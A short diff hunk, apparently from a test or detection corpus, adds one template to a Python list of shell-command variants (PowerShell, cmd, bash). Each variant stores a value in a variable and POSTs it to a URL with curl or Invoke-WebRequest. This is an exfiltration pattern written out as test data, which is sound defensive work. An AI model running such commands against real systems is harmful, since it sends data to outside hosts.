@@ -314,6 +314,7 @@ ATK19_KEPT = [
     f"PS C:\\> $E = '{E}'\nPS C:\\> Invoke-WebRequest -Uri {U} -Method POST -Body $E",
     f"set E={E}\ncurl -d %E% {U}",
     f"$ export E={E}\n$ curl -d \"u=$E\" {U}",
+    f"Steps:\n\n1. export E={E}\n2. curl -d \"u=$E\" {U}\n",
     f"PS C:\\> $E = '{E}'\nPS C:\\> curl.exe -d \"u=$E\" {U}\n",
     f"C:\\> set E={E}\nC:\\> curl.exe -d \"u=%E%\" {U}\n",
     # H2: a destination spelled as resolvers read it
